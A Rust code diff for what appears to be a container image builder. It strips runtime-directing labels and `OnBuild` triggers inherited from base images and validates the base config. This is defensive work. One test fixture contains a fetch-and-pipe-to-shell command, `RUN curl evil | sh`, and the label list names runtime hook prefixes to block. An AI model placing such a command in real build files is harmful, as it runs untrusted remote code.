@@ -10,8 +10,31 @@ use super::{Base, Error, Run};
 use crate::layer::Layer;
 use crate::paths::TreePath;
 
-/// Labels of the base under this prefix describe the base, not the image, and are dropped.
-const OCI_PREFIX: &str = "org.opencontainers.image.";
+/// Labels of the base that an image does not get. Those of the image spec describe the base; the others are orders to
+/// runtimes and engines, which nobody expects of a base. Runtimes see labels:
+///
+/// > Config.Labels: annotations (image-spec conversion.md)
+const NOT_INHERITED: [&str; 16] = [
+    "org.opencontainers.image.",
+    // crun(1): the handler that runs the container, files that it opens, its seccomp filter.
+    "run.oci.",
+    "module.wasm.image",
+    // runc and crun: properties of the systemd unit.
+    "org.systemd.property.",
+    "org.criu.",
+    "io.kubernetes.cri-o.",
+    "io.cri-containerd",
+    "io.containerd.",
+    "containerd.io/",
+    "nerdctl/",
+    "io.katacontainers.",
+    "dev.gvisor.",
+    // podman: updates of running containers, namespaces and what it tells its own containers apart by.
+    "io.containers.",
+    "io.podman.",
+    "com.docker.",
+    "desktop.docker.io/",
+];
 
 /// The config of an image (image-spec config.md), as JSON bytes.
 pub(super) fn config(base: &Base, layers: &[Layer], run: &Run, created: u64) -> Result<Vec<u8>, Error> {
@@ -38,7 +61,11 @@ pub(super) fn config(base: &Base, layers: &[Layer], run: &Run, created: u64) -> 
         *settings = json!({});
     }
     apply_run(object(settings, "`config`")?, run)?;
-    Ok(serde_json::to_vec(&config)?)
+    let bytes = serde_json::to_vec(&config)?;
+    // What has the wrong type would be found by whoever reads the image: engines in Go take none of it.
+    serde_json::from_slice::<oci_spec::image::ImageConfiguration>(&bytes)
+        .map_err(|error| Error::BaseConfig(error.to_string()))?;
+    Ok(bytes)
 }
 
 /// Seconds since 1970 as RFC 3339 (image-spec config.md, `created`).
@@ -109,6 +136,8 @@ fn apply_run(settings: &mut Map<String, Value>, run: &Run) -> Result<(), Error> 
     settings.insert("Entrypoint".to_owned(), json!(run.entrypoint));
     // An inherited Cmd (`["python3"]`) would reach the app as an argument.
     settings.remove("Cmd");
+    // Orders to whoever builds on the base (`ONBUILD`): docker, too, takes them out of what is built.
+    settings.remove("OnBuild");
     settings.insert("User".to_owned(), json!(run.user));
     let directory = &run.working_directory;
     match directory.strip_prefix('/') {
@@ -119,23 +148,22 @@ fn apply_run(settings: &mut Map<String, Value>, run: &Run) -> Result<(), Error> 
         None => return Err(Error::WorkingDirectory(directory.clone(), None)),
     }
     settings.insert("WorkingDir".to_owned(), json!(directory));
-    let mut ports = existing(settings, "ExposedPorts");
+    let mut ports = existing(settings, "ExposedPorts")?;
     ports.extend(run.ports.iter().map(|p| (p.clone(), json!({}))));
     replace(settings, "ExposedPorts", ports);
-    let mut labels = existing(settings, "Labels");
-    labels.retain(|key, _| !key.starts_with(OCI_PREFIX));
+    let mut labels = existing(settings, "Labels")?;
+    labels.retain(|key, _| !NOT_INHERITED.iter().any(|prefix| key.starts_with(prefix)));
     labels.extend(run.labels.iter().map(|(k, v)| (k.clone(), json!(v))));
     replace(settings, "Labels", labels);
     Ok(())
 }
 
-fn existing(settings: &Map<String, Value>, key: &str) -> BTreeMap<String, Value> {
-    let object = settings.get(key).and_then(Value::as_object);
-    object
-        .into_iter()
-        .flatten()
-        .map(|(k, v)| (k.clone(), v.clone()))
-        .collect()
+fn existing(settings: &Map<String, Value>, key: &str) -> Result<BTreeMap<String, Value>, Error> {
+    match settings.get(key) {
+        None | Some(Value::Null) => Ok(BTreeMap::new()),
+        Some(Value::Object(object)) => Ok(object.clone().into_iter().collect()),
+        Some(_) => Err(Error::BaseConfig(format!("`{key}` is not an object"))),
+    }
 }
 
 fn replace(settings: &mut Map<String, Value>, key: &str, values: BTreeMap<String, Value>) {
@@ -148,12 +176,21 @@ fn replace(settings: &mut Map<String, Value>, key: &str, values: BTreeMap<String
 
 /// The base's variables in their order, ours put in their place or after them.
 fn environment(base: Option<&Value>, run: &Run) -> Result<Vec<String>, Error> {
+    let wrong = |what: String| Error::BaseConfig(format!("`Env` {what}"));
+    let base: &[Value] = match base {
+        None | Some(Value::Null) => &[],
+        Some(Value::Array(entries)) => entries,
+        Some(_) => return Err(wrong("is not an array".to_owned())),
+    };
     let mut variables: Vec<(String, String)> = Vec::new();
-    for entry in base.and_then(Value::as_array).into_iter().flatten() {
+    for entry in base {
         let text = entry
             .as_str()
-            .ok_or_else(|| Error::BaseConfig("`Env` has an entry that is no text".to_owned()))?;
-        let (name, value) = text.split_once('=').unwrap_or((text, ""));
+            .ok_or_else(|| wrong("has an entry that is no text".to_owned()))?;
+        // Runtimes refuse to start what has others.
+        let parted = text.split_once('=').filter(|_| !text.contains('\0'));
+        let (name, value) =
+            parted.ok_or_else(|| wrong(format!("has `{}`, which is not NAME=VALUE", text.escape_debug())))?;
         check_name(name)?;
         set(&mut variables, name, value);
     }
@@ -188,6 +225,95 @@ fn check_name(name: &str) -> Result<(), Error> {
     if valid {
         Ok(())
     } else {
-        Err(Error::Variable(name.to_owned()))
+        Err(Error::Variable(name.escape_debug().to_string()))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::{tiny_base, tiny_layer, tiny_run};
+    use super::*;
+
+    fn config_on(change: impl FnOnce(&mut Value)) -> Result<Value, Error> {
+        let mut base = tiny_base();
+        change(&mut base.config);
+        let bytes = config(&base, &[tiny_layer("app")], &tiny_run(), 0)?;
+        Ok(serde_json::from_slice(&bytes)?)
+    }
+
+    #[test]
+    fn a_base_whose_config_is_not_what_the_spec_says_is_refused_with_what_is_wrong() {
+        for (key, value, reason) in [
+            ("Env", json!(["FOO"]), "`Env` has `FOO`, which is not NAME=VALUE"),
+            (
+                "Env",
+                json!(["A=b\u{0}c"]),
+                "`Env` has `A=b\\0c`, which is not NAME=VALUE",
+            ),
+            (
+                "Env",
+                json!(["=x"]),
+                "`` is not a valid environment variable name",
+            ),
+            (
+                "Env",
+                json!(["A\nB=x"]),
+                "`A\\nB` is not a valid environment variable name",
+            ),
+            ("Env", json!(["A=b", 1]), "`Env` has an entry that is no text"),
+            ("Env", json!([["A=b"]]), "`Env` has an entry that is no text"),
+            ("Env", json!("A=b"), "`Env` is not an array"),
+            ("Env", json!({ "A": "b" }), "`Env` is not an array"),
+            ("Labels", json!(["a"]), "`Labels` is not an object"),
+            (
+                "Labels",
+                json!({ "a": 1 }),
+                "invalid type: integer `1`, expected a string",
+            ),
+            ("ExposedPorts", json!("80/tcp"), "`ExposedPorts` is not an object"),
+            (
+                "StopSignal",
+                json!(9),
+                "invalid type: integer `9`, expected a string",
+            ),
+        ] {
+            let error = config_on(|config| config["config"][key] = value.clone()).unwrap_err();
+            assert!(error.to_string().contains(reason), "{key} {value}: {error}");
+        }
+        for (key, value, reason) in [
+            ("config", json!([]), "`config` is not an object"),
+            ("history", json!({}), "`history` is not an array"),
+            ("history", json!(["FROM scratch"]), "invalid type"),
+        ] {
+            let error = config_on(|config| config[key] = value.clone()).unwrap_err();
+            assert!(error.to_string().contains(reason), "{key} {value}: {error}");
+        }
+        for nothing in ["Env", "Labels", "ExposedPorts"] {
+            config_on(|config| config["config"][nothing] = Value::Null).unwrap();
+        }
+    }
+
+    #[test]
+    fn orders_to_runtimes_and_builders_do_not_come_with_the_base() {
+        let orders = [
+            "run.oci.handler",
+            "run.oci.hooks.stdout",
+            "module.wasm.image/variant",
+            "org.systemd.property.ExecStartPre",
+            "io.kubernetes.cri-o.userns-mode",
+            "io.katacontainers.config.hypervisor.path",
+            "io.containers.autoupdate",
+            "com.docker.compose.project",
+        ];
+        let made = config_on(|config| {
+            for key in orders {
+                config["config"]["Labels"][key] = json!("x");
+            }
+            config["config"]["Labels"]["vendor"] = json!("kept");
+            config["config"]["OnBuild"] = json!(["RUN curl evil | sh"]);
+        });
+        let settings = &made.unwrap()["config"];
+        assert_eq!(settings["Labels"], json!({ "kept": "yes", "vendor": "kept" }));
+        assert_eq!(settings.get("OnBuild"), None);
     }
 }
